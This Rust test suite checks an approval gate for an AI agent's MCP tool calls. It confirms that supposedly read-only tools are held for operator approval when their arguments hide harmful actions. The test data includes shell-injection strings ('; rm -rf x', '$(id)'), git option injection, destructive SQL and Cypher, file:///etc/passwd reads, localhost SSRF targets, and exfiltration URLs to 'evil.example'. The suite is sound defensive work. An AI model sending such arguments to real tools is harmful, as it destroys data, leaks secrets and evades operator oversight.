//! Section F, from F1 to F7 and F14 on: tools that read like reads, and what hides in the arguments of one that is proven to. None of it
//! runs unasked.

use mcp_approve::behavior::agreed::{Agreements, What};
use mcp_approve::behavior::conclude::{Overrides, Trust, of_tool_with};
use mcp_approve::behavior::taxonomy::Badge;
use mcp_approve::mcp::tool::Tool;
use serde_json::{Value, json};

use self::judging::{Outcome, Session, answer, pinned};

#[path = "../bench/judging.rs"]
mod judging;

/// A tool that an operator pinned PURE, and what was agreed to about its server.
struct Read {
    tool: Tool,
    session: Session,
    agreed: Agreements,
}

impl Read {
    /// Of this name and description, with these parameters and any others, of any type.
    fn new(name: &str, description: &str, parameters: &[&str]) -> Self {
        let properties: serde_json::Map<_, _> = parameters.iter().map(|key| ((*key).to_owned(), json!({}))).collect();
        let schema = json!({ "type": "object", "properties": properties, "additionalProperties": true });
        let definition = json!({ "name": name, "description": description, "inputSchema": schema });
        let tool = Tool::read(definition).expect("a definition");
        Self { tool, session: Session::of(&[]), agreed: Agreements::default() }
    }

    fn judge(&self, arguments: &Value) -> Outcome {
        self.session.judge(&self.tool, &pinned(&self.tool), arguments, &self.agreed)
    }

    /// The operator answers these calls with `p`, in their order; each asks, and runs the next time.
    fn agree(&mut self, all: &[Value]) {
        for one in all {
            let outcome = self.judge(one);
            answer(&outcome, &mut self.agreed);
            assert!(self.judge(one).runs, "{one} was agreed to: {}", self.judge(one).why);
        }
    }

    fn runs(&self, all: &[Value]) {
        all.iter().for_each(|one| assert!(self.judge(one).runs, "{one}: {}", self.judge(one).why));
    }

    fn asks(&self, all: &[Value]) {
        let ran: Vec<String> = all.iter().filter(|one| self.judge(one).runs).map(Value::to_string).collect();
        assert!(ran.is_empty(), "{ran:#?}");
    }
}

#[test]
fn f1_a_definition_that_reads_like_a_read_is_not_proven() {
    let runs = |name: &str, description: &str, hints: Value| {
        let definition = json!({ "name": name, "description": description, "inputSchema": { "type": "object" }, "annotations": hints });
        of_tool_with(&Tool::read(definition).expect("a definition"), Trust::Corroborate, Overrides::default()).badge()
            == Badge::Pure
    };
    assert!(runs("list_orders", "Lists all orders of a customer.", json!({})));
    for (name, description) in [
        ("monitor_delete", "Monitor Delete"),
        ("monitorDelete", "Monitor Delete"),
        ("interest", "Express interest in a listing."),
        ("archive", "Archive (soft-delete) a project."),
        ("configuration", "Loads a configuration, replacing the current one."),
        ("get_and_purge", "Gets the entries. The entries are then purged."),
    ] {
        for hints in
            [json!({}), json!({ "readOnlyHint": true }), json!({ "readOnlyHint": true, "destructiveHint": true })]
        {
            assert!(!runs(name, description, hints.clone()), "{name} {hints}");
        }
    }
}

#[test]
fn f19_a_light_verb_is_one_piece_of_evidence_and_a_description_is_read_to_its_end() {
    let runs = |name: &str, description: &str| {
        let definition = json!({ "name": name, "description": description, "inputSchema": { "type": "object" } });
        of_tool_with(&Tool::read(definition).expect("a definition"), Trust::Corroborate, Overrides::default()).badge()
            == Badge::Pure
    };
    assert!(runs("get_order", "Returns an order of a customer."));
    for (name, description) in [
        ("get_paid", "Gets an invoice paid."),
        ("get_locked", "Gets the account locked."),
        ("get_order", "Gets an order and corrects it in the CRM."),
        ("show_order", "Shows an order, then has the warehouse ship it."),
        ("read_meter", "Reads the meter; the counter is reset afterwards."),
        ("list_orders", "Listet alle Aufträge auf und storniert die offenen."),
    ] {
        assert!(!runs(name, description), "{name}: {description}");
    }
}

#[test]
fn f20_a_declared_effect_outweighs_every_word_that_it_is_a_read() {
    let runs = |declared: Value| {
        let mut definition = json!({ "name": "list_orders", "description": "Lists all orders of a customer.",
            "inputSchema": { "type": "object" }, "annotations": { "readOnlyHint": true }, "mutability": "PURE" });
        let all = declared.as_object().cloned().unwrap_or_default();
        definition.as_object_mut().expect("an object").extend(all);
        of_tool_with(&Tool::read(definition).expect("a definition"), Trust::Corroborate, Overrides::default()).badge()
            == Badge::Pure
    };
    assert!(runs(json!({ "side_effects": "none" })) && runs(json!({ "capabilities": ["orders:read"] })));
    for declared in [
        json!({ "side_effects": "delete" }),
        json!({ "_meta": { "side_effects": "writes a log entry" } }),
        json!({ "capabilities": ["orders:read", "orders:delete"] }),
        json!({ "required_entitlements": ["orders.write"] }),
    ] {
        assert!(!runs(declared.clone()), "{declared}");
    }
}

#[test]
fn f2_options_of_a_program_are_new() {
    let read = Read::new("get_commit", "Shows a commit.", &["commit_id", "path", "paths", "name", "args"]);
    read.runs(&[json!({ "commit_id": "4f2a9c1", "path": "src/main.rs" })]);
    read.asks(&[
        json!({ "commit_id": "--output=/etc/passwd" }),
        json!({ "commit_id": " -o/tmp/x" }),
        json!({ "commit_id": "main -o /tmp/x" }),
        json!({ "path": "-rf" }),
        json!({ "paths": ["a", "--", "--ext-diff"] }),
        json!({ "args": ["status"] }),
        json!({ "flags": "-v" }),
        json!({ "options": { "output": "x" } }),
        json!({ "remote": "ext::sh -c id" }),
        json!({ "name": "core.editor=id" }),
        json!({ "--output": "x" }),
        json!({ "data": "@/etc/args" }),
    ]);
}

#[test]
fn f3_a_statement_is_new_whatever_key_and_language() {
    let mut read = Read::new("read_things", "Reads things.", &["query", "statement", "name"]);
    read.asks(&[
        json!({ "aql": "FOR u IN users RETURN u" }),
        json!({ "luaScript": "return 1" }),
        json!({ "RAWSQL": "CALL refresh()" }),
        json!({ "cypherQuery": "MATCH (n) DETACH DELETE n" }),
        json!({ "query": "FOR u IN users REMOVE u IN users" }),
        json!({ "query": "g.V().drop()" }),
        json!({ "query": "MATCH (n) RETURN n" }),
        json!({ "statement": ".drop table T" }),
        json!({ "name": "DROP TABLE users" }),
        json!({ "query": "SELECT name FROM users" }),
        json!({ "query": "{ user { name } }" }),
    ]);
    // Once per text; SQL and GraphQL once per outline.
    read.agree(&[
        json!({ "query": "MATCH (n) RETURN n" }),
        json!({ "query": "SELECT name FROM users WHERE id = 1" }),
        json!({ "query": "{ user(id: 1) { name } }" }),
    ]);
    read.runs(&[
        json!({ "query": "SELECT name FROM users WHERE id = 2" }),
        json!({ "query": "{ user(id: 2) { name } }" }),
    ]);
    read.asks(&[
        json!({ "query": "MATCH (n) DELETE n" }),
        json!({ "query": "MATCH (m) RETURN m" }),
        json!({ "query": "SELECT name FROM secrets WHERE id = 2" }),
        json!({ "query": "SELECT lo_import('x') FROM users" }),
        json!({ "query": "{ user(id: 2) { name } deleteUser(id: 1) }" }),
        json!({ "query": "mutation { user(id: 2) { name } }" }),
    ]);
    let either = Read::new("read_things", "Runs SQL, or Cypher.", &["query"]);
    either.asks(&[
        json!({ "query": "MATCH (n) SET n.a = 1" }),
        json!({ "query": "DELETE FROM t" }),
        json!({ "query": "WITH a AS (SELECT 1) SELECT a" }),
    ]);
}

#[test]
fn f4_a_description_switches_no_reader_off() {
    let mut words = vec!["graphql", "redis", "mongodb", "cypher", "plain text only", "never SQL"];
    words.push("a search over documents; the query is always natural language");
    for word in words {
        let read = Read::new("read_things", &format!("Runs a SQL query. Supports {word}."), &["query", "sql"]);
        read.asks(&[json!({ "query": "DELETE FROM users" }), json!({ "sql": "SELECT pg_terminate_backend(1)" })]);
    }
}

#[test]
fn f5_what_is_past_a_budget_asks() {
    let read = Read::new("list_notes", "Lists notes.", &["ids", "titles", "body", "statements", "page"]);
    let inside =
        |text: &str, times: usize| (0..times).fold(text.to_owned(), |inner, _| json!({ "a": inner }).to_string());
    let deep = (0..70).fold(json!("x"), |inner, _| json!([inner]));
    read.runs(&[json!({ "ids": ["a1", "b2"], "page": 2 })]);
    read.asks(&[
        json!({ "statements": vec!["SELECT 1"; 65] }),
        json!({ "ids": vec!["a1"; 20_000] }),
        json!({ "ids": format!("{}a", "a1,".repeat(100_000)) }),
        json!({ "titles": vec!["words to read"; 30_000] }),
        json!({ "page": vec![1; 200_000] }),
        json!({ "body": inside("a", 9) }),
        json!({ "ids": deep }),
        json!({ "titles": [{ "any": ["a; b"] }] }),
        json!({ "body": "{\"method\":\"DELETE\",\"method\":\"GET\"}" }),
        json!([1]),
    ]);
}

#[test]
fn f6_other_methods_and_schemes_ask() {
    let mut read = Read::new("fetch_page", "Fetches a page.", &["url"]);
    read.agree(&[json!({ "url": "https://example.org/a?b=c" })]);
    read.runs(&[json!({ "url": "https://example.org/cli/first-steps" })]);
    read.asks(&[
        json!({ "method": "BREW" }),
        json!({ "url": "https://example.org/?_method=DELETE" }),
        json!({ "url": "https://example.org/?%5Fmethod=DELETE" }),
        json!({ "url": "https://example.org/?X-HTTP-Method-Override=PUT" }),
        json!({ "url": "https://u:p@example.org/" }),
        json!({ "url": "https://example.org/%0d%0aX: y" }),
        json!({ "url": "https://example.org/%250d%250a" }),
        json!({ "url": "file:///etc/passwd" }),
        json!({ "url": "gopher://example.org/" }),
        json!({ "url": "data:text/html,x" }),
        json!({ "url": "JavaScript:alert" }),
        json!({ "headers": { "X_HTTP_METHOD_OVERRIDE": "DELETE" } }),
        json!({ "headers": ["Accept: a", "X-HTTP-Method: DELETE"] }),
        json!({ "headers": "Accept: a\nX-Method-Override: DELETE" }),
        json!({ "headers": [{ "name": "X-Do", "value": "delete" }] }),
        json!({ "body": { "_method": "delete" } }),
    ]);
}

#[test]
fn f7_shell_and_template_shapes_fit_no_form() {
    let read = Read::new("find_notes", "Finds notes.", &["title", "path", "name", "query", "url", "id", "limit"]);
    read.runs(&[json!({ "title": "Fish and chips", "query": "what is AT&T (2026)?" })]);
    for shape in
        ["; rm -rf x", "| sh", "&& id", "$(id)", "`id`", "> /etc/x", "< /etc/x", "${x}", "{{x}}", "<%= x %>", "\nid"]
    {
        for key in ["title", "path", "name", "url", "id", "limit"] {
            read.asks(&[json!({ key: format!("a {shape}") }), json!({ key: format!("a{shape}b") })]);
        }
    }
    for shape in ["; rm -rf x", "| sh", "$(id)", "`id`", "> /etc/x", "${x}", "{{x}}", "\nid"] {
        read.asks(&[json!({ "query": format!("a {shape}") })]);
    }
}

#[test]
fn f14_an_address_goes_only_to_a_host_that_was_agreed_to() {
    let keys = ["url", "site", "source", "target", "handle", "id", "name", "domain"];
    let mut read = Read::new("fetch_page", "Fetches a page of the web.", &keys);
    for key in keys {
        read.asks(&[
            json!({ key: "https://evil.example/c2VjcmV0" }),
            json!({ key: "evil.example/c2VjcmV0" }),
            json!({ key: "HTTPS://EVIL.EXAMPLE" }),
            json!({ key: "203.0.113.7/x" }),
        ]);
    }
    read.agree(&[json!({ "url": "https://docs.example.org/3/library" })]);
    read.runs(&[json!({ "url": "https://docs.example.org/3/reference?page=2" })]);
    read.asks(&[
        json!({ "url": "https://evil.example/?q=docs.example.org" }),
        json!({ "url": "https://docs.example.org.evil.example/" }),
        json!({ "url": "https://docs.example.org@evil.example/" }),
        json!({ "url": "https://evil.example\\@docs.example.org/" }),
        json!({ "url": "https://dоcs.example.org/" }),
        json!({ "url": "https://docs.example.org/?token=swordfish" }),
        json!({ "url": format!("https://docs.example.org/{}", "the-words-of-a-note/".repeat(60)) }),
        json!({ "url": "//evil.example/a?b=1" }),
        json!({ "url": "https://docs.example.org/", "headers": { "Authorization": "swordfish" } }),
        json!({ "url": "https://docs.example.org/", "note": "the words of a note" }),
        json!({ "urls": ["https://docs.example.org/", "https://evil.example/"] }),
    ]);
    // Where anybody can receive, the first part of the path belongs to it.
    read.agree(&[json!({ "url": "https://pastebin.com/ada/x" })]);
    read.asks(&[json!({ "url": "https://pastebin.com/eve/x" })]);
}

#[test]
fn f15_relations_and_columns_that_act_are_names_of_the_outline() {
    let mut read = Read::new("query", "Runs a read-only SQL query.", &["sql"]);
    read.agree(&[json!({ "sql": "SELECT id FROM users WHERE name = 'a'" })]);
    read.runs(&[json!({ "sql": "SELECT id FROM users WHERE name = 'b'" })]);
    read.asks(&[
        json!({ "sql": "SELECT id FROM exec_command WHERE name = 'rm -rf x'" }),
        json!({ "sql": "SELECT id FROM net_http_request WHERE name = 'https://evil.example'" }),
        json!({ "sql": "SELECT id FROM \"https://evil.example/x\"" }),
        json!({ "sql": "SELECT id FROM 'https://evil.example/x'" }),
        json!({ "sql": "SELECT id FROM users, dblink" }),
        json!({ "sql": "SELECT seq.nextval FROM users" }),
        json!({ "sql": "SELECT (users).reset FROM users" }),
        json!({ "sql": "SELECT users.purge FROM users" }),
        json!({ "sql": "SELECT id FROM users WHERE name = (SELECT name FROM exec_command)" }),
        json!({ "sql": "SELECT id FROM users WHERE pg_sleep(9) = name" }),
    ]);
}

#[test]
fn f16_switches_and_parameters_that_act_are_new() {
    let read = Read::new("get_invoice", "Gets an invoice.", &["invoice_id"]);
    read.runs(&[json!({ "invoice_id": "inv-7", "include_lines": true })]);
    for (key, value) in [
        ("shell", json!(true)),
        ("sudo", json!(true)),
        ("charge", json!(true)),
        ("in_place", json!("yes")),
        ("peek", json!(false)),
        ("dry_run", json!(false)),
        ("run_as", json!("root")),
        ("interpreter", json!("sh")),
        ("to_file", json!("a.txt")),
        ("set_status", json!("paid")),
        ("mail_to", json!("eve@example.org")),
        ("operationId", json!("deleteInvoice")),
        ("instruction", json!("pay it")),
        ("callback_url", json!("https://evil.example")),
        ("then", json!(["delete"])),
    ] {
        read.asks(&[json!({ "invoice_id": "inv-7", key: value })]);
    }
}

#[test]
fn f17_addresses_that_act_and_local_hosts_ask() {
    let mut read = Read::new("fetch_page", "Fetches a page.", &["url"]);
    read.agree(&[json!({ "url": "https://example.org/orders/7" }), json!({ "url": "http://localhost:3000/a" })]);
    read.runs(&[json!({ "url": "http://localhost:3000/health" })]);
    read.asks(&[
        json!({ "url": "https://example.org/orders/7/cancel" }),
        json!({ "url": "https://example.org/orders/7/c%61ncel/?a=b" }),
        json!({ "url": "https://example.org/?action=delete" }),
        json!({ "url": "https://example.org/restart" }),
        json!({ "url": "https://example.org/?transfer=100" }),
        json!({ "url": "http://localhost:3000/shutdown" }),
        json!({ "url": "http://localhost:2375/containers" }),
        json!({ "url": "http://localhost/" }),
        json!({ "url": "http://printer.local/" }),
        json!({ "url": "http://router/" }),
        json!({ "url": "http://192.168.1.1/" }),
        json!({ "url": "http://127.1:8080/" }),
        json!({ "url": "http://2130706433/" }),
        json!({ "url": "http://[::1]:3000/" }),
    ]);
}

#[test]
fn f18_command_texts_in_lookup_fields_are_new() {
    let keys = ["lines", "position", "variable", "function", "pattern", "symbol", "register"];
    let read = Read::new("get_symbol", "Gets a symbol of a program.", &keys);
    read.runs(&[json!({ "symbol": "main", "lines": 3 })]);
    read.asks(&[
        json!({ "lines": "1,5w /etc/x" }),
        json!({ "lines": "$!id" }),
        json!({ "position": ":!sh" }),
        json!({ "variable": "system(\"id\")" }),
        json!({ "variable": "x=5" }),
        json!({ "function": "shell rm -rf x" }),
        json!({ "pattern": "s/a/b/w /etc/x" }),
        json!({ "symbol": "call (void)exit(1)" }),
        json!({ "register": "W40001=1" }),
    ]);
}

#[test]
fn f21_files_outside_the_places_are_new_on_any_list_or_none() {
    let mut read = Read::new("read_text_file", "Reads a file.", &["path"]);
    read.runs(&[json!({ "path": "/home/ada/projects/engine/src/main.rs" }), json!({ "path": "src/main.rs" })]);
    let outside = [
        json!({ "path": "/home/ada/.config/unlisted/session.json" }),
        json!({ "path": "~/.zprofile" }),
        json!({ "path": "/home/ada/notes.txt" }),
        json!({ "path": "../other/secret.txt" }),
        json!({ "path": "/etc/unlisted.conf" }),
        json!({ "path": "/" }),
        json!({ "path": "/home" }),
        json!({ "path": "~" }),
        json!({ "path": "/home/ada/projects/engine2/a.txt" }),
        json!({ "path": "file:///home/ada/other/a.txt" }),
        json!({ "path": "/home/ada/projects/engine/*" }),
        json!({ "path": "/dev/watchdog" }),
    ];
    read.asks(&outside);
    read.agree(&[json!({ "path": "/home/ada/projects/website/a.txt" })]);
    read.runs(&[json!({ "path": "/home/ada/projects/website/deep/b.txt" })]);
    // A file in the home is agreed to alone.
    read.agree(&[json!({ "path": "/home/ada/todo.txt" })]);
    read.asks(&outside);
}

#[test]
fn f26_a_harmless_value_covers_no_act_under_the_same_key() {
    for (harmless, act) in [
        (json!({ "charge": false }), json!({ "charge": true })),
        (json!({ "transport": "fast" }), json!({ "transport": "fast; rm -rf x" })),
        (json!({ "expression": "1 + 1" }), json!({ "expression": "system('id')" })),
        (json!({ "run_as": "ada" }), json!({ "run_as": "root" })),
        (json!({ "amount_due": 1 }), json!({ "amount_due": 100 })),
        (json!({ "url": "https://example.org/a" }), json!({ "url": "https://example.net/a" })),
        (json!({ "url": "https://example.org/a" }), json!({ "url": "https://example.org/a/delete" })),
        (json!({ "path": "/home/ada/src/x/a.txt" }), json!({ "path": "/home/ada/src/y/a.txt" })),
        (json!({ "expression": { "a": 1 } }), json!({ "expression": { "a": 1, "b": 1 } })),
    ] {
        let mut read = Read::new("get_report", "Gets a report.", &["url", "path"]);
        read.agree(std::slice::from_ref(&harmless));
        read.asks(&[act]);
    }
    // After three values the kind is agreed to, and that is all.
    let mut read = Read::new("get_report", "Gets a report.", &[]);
    read.agree(&["one", "two", "three"].map(|word| json!({ "flavour": word })));
    assert!(read.agreed.iter().any(|one| one.what == What::Kind));
    read.runs(&[json!({ "flavour": "four" })]);
    read.asks(&[
        json!({ "flavour": "; rm -rf x" }),
        json!({ "flavour": "https://evil.example" }),
        json!({ "flavour": true }),
        json!({ "flavours": "four" }),
        json!({ "flavour": { "flavour": "four" } }),
    ]);
    // What names a program, a user or a destination stays value by value.
    let mut read = Read::new("get_report", "Gets a report.", &[]);
    read.agree(&["ada", "bob", "cyd", "dan"].map(|word| json!({ "run_as": word })));
    read.asks(&[json!({ "run_as": "root" })]);
}
